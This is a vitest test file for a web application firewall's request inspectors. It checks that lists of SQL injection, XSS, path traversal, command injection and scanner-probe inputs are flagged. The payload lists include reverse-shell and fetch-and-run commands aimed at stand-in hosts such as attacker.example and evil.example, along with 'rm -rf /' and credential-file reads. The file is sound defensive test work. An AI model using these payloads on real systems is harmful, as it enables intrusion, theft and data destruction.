import { describe, expect, it } from 'vitest';
/** The rule tables (rules.ts), one attack family at a time, through the inspectors. */
import { inspectBody, inspectHeaders, inspectPath, inspectQuery } from './inspection.js';

const categoryOf = (rule: string | undefined) => rule?.split('.')[0];

function bodyRule(value: unknown) {
  return inspectBody({ note: value })?.rule;
}

describe('SQL injection', () => {
  const payloads = [
    "' OR 1=1--",
    "' or '1'='1",
    '" OR ""="',
    "admin'--",
    "admin' #",
    "') OR ('a'='a",
    '1 OR 1=1',
    "1' AND 1=1 --",
    "x' UNION SELECT username, password FROM users--",
    '1 UNION ALL SELECT NULL,NULL,NULL',
    '1/**/UNION/**/SELECT/**/1,2',
    '1 /*!50000union*/ /*!50000select*/ 1',
    "'; DROP TABLE users; --",
    '1; DELETE FROM wallets',
    "1; UPDATE users SET role='admin'",
    "1; EXEC xp_cmdshell('dir')",
    "1' AND SLEEP(5)--",
    '1 AND pg_sleep(10)',
    "1'; WAITFOR DELAY '0:0:5'--",
    '1 AND BENCHMARK(1000000,MD5(1))',
    "' AND extractvalue(1,concat(0x7e,version()))--",
    '1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)',
    "' UNION SELECT @@version --",
    "1 INTO OUTFILE '/var/www/shell.php'",
  ];

  it.each(payloads)('flags %s in a body string', (payload) => {
    expect(categoryOf(bodyRule(payload))).toBe('sqli');
  });

  it.each(payloads)('flags %s URL-encoded in the query string', (payload) => {
    const match = inspectQuery(`q=${encodeURIComponent(payload)}&page=1`);
    expect(categoryOf(match?.rule)).toBe('sqli');
    expect(match?.location).toBe('query.q');
  });
});

describe('XSS', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '< script >alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '[click](javascript:alert(1))',
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<object data="x.swf"></object>',
    '<embed src=x.swf>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)',
    '<details open ontoggle=alert(1)>',
    '"><img src=x onerror=prompt(1)>',
    'x" style="x:expression(alert(1))',
    "<a href=x>alert('xss')</a>",
    'confirm(document.domain)',
  ];

  it.each(payloads)('flags %s', (payload) => {
    expect(categoryOf(bodyRule(payload))).toBe('xss');
  });

  it('flags double-encoded script tags in the query', () => {
    expect(inspectQuery('q=%253Cscript%253Ealert(1)%253C%252Fscript%253E')?.rule).toBe('xss.script_tag');
  });
});

describe('path traversal', () => {
  const pathPayloads = [
    '/static/../../../etc/passwd',
    '/static/..%2f..%2f..%2fetc%2fpasswd',
    '/static/%2e%2e%2f%2e%2e%2fetc/passwd',
    '/static/%252e%252e%252f%252e%252e%252fapp.db',
    '/static/%25252e%25252e%25252f',
    '/static/..%5c..%5cwindows%5cwin.ini',
    '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '/static/..%u002f..%u002fetc',
    '/files/report.pdf%00.png',
    '/..',
  ];

  it.each(pathPayloads)('flags the path %s', (path) => {
    const match = inspectPath(path);
    expect(match).not.toBeNull();
    expect(match!.location).toBe('path');
  });

  it('flags values still encoded after the bounded decoding rounds', () => {
    expect(inspectPath('/static/%252525252e%252525252e%252525252f')?.rule).toBe('evasion.nested_encoding');
    expect(inspectQuery('q=%25252525253Cscript%25252525253E')?.rule).toBe('evasion.nested_encoding');
  });

  it('decodes a URL passed in a query parameter without complaint', () => {
    expect(inspectQuery('redirect=https%3A%2F%2Fapp.example%2Fa%253Fb%253D1')).toBeNull();
  });

  it.each([
    '../../etc/passwd',
    '..\\..\\windows\\system32',
    '%2e%2e%2f%2e%2e%2fsecret',
    'file=/etc/shadow',
    'C:\\Windows\\win.ini',
    '/proc/self/environ',
  ])('flags %s in the query', (value) => {
    expect(categoryOf(inspectQuery({ file: value })?.rule)).toBe('path_traversal');
  });

  it('flags two levels of ../ and sensitive files in bodies', () => {
    expect(categoryOf(bodyRule('../../../../etc/hosts'))).toBe('path_traversal');
    expect(categoryOf(bodyRule('see /etc/passwd'))).toBe('path_traversal');
  });
});

describe('command injection', () => {
  const payloads = [
    '; cat /etc/passwd',
    '127.0.0.1; ls -la',
    'x && whoami',
    '$(id)',
    '`id`',
    '`cat /etc/shadow`',
    'x | nc attacker.example 4444 -e /bin/sh',
    '| nc -lvp 4444',
    '; wget http://evil.example/x.sh',
    '&& curl -s http://evil.example | sh',
    '|| ping -c 10 127.0.0.1',
    '; sleep 5',
    '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
    'a;rm -rf /',
    'cat${IFS}/etc/passwd',
    '() { :; }; /bin/bash -c "id"',
    'x\nwhoami\n',
    '| powershell -enc SQBFAFgA',
    "; python -c 'import os'",
  ];

  it.each(payloads)('flags %s', (payload) => {
    const rule = bodyRule(payload);
    expect(['command_injection', 'path_traversal']).toContain(categoryOf(rule));
  });

  it('flags URL-encoded command injection in the query', () => {
    expect(categoryOf(inspectQuery('host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd')?.rule)).toMatch(
      /command_injection|path_traversal/,
    );
    expect(categoryOf(inspectQuery('host=%24%28id%29')?.rule)).toBe('command_injection');
  });
});

describe('scanners', () => {
  it.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Acunetix-Product',
    'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
    'Mozilla/5.0 zgrab/0.x',
    'Fuzz Faster U Fool v2.1.0 ffuf',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'gobuster/3.6',
  ])('flags the user agent %s', (ua) => {
    expect(inspectHeaders({ 'user-agent': ua })).toEqual({
      rule: 'scanner.user_agent',
      location: 'header.user-agent',
    });
  });

  it.each([
    '/.env',
    '/.env.local',
    '/api/.env',
    '/.git/config',
    '/.git/HEAD',
    '/.svn/entries',
    '/.DS_Store',
    '/.aws/credentials',
    '/wp-admin/',
    '/wp-login.php',
    '/wordpress/wp-admin/setup-config.php',
    '/xmlrpc.php',
    '/phpmyadmin/',
    '/phpMyAdmin/index.php',
    '/pma/',
    '/server-status',
    '/cgi-bin/test.cgi',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/index.php',
    '/backup.sql',
    '/site.zip',
    '/actuator/env',
    '/%2eenv',
    '/stubs/other.php',
    '/x/stubs/handler_api.php',
    '/stubs/handler_api.php/../x.php',
  ])('flags the probe %s', (path) => {
    expect(categoryOf(inspectPath(path)?.rule)).toBe('scanner');
  });

  it('lets the SMS-Activate-compatible path through', () => {
    expect(inspectPath('/stubs/handler_api.php')).toBeNull();
  });

  it('does not flag the scanner user-agent rule on other headers', () => {
    expect(inspectHeaders({ 'x-comment': 'I read the sqlmap docs' })).toBeNull();
  });
});
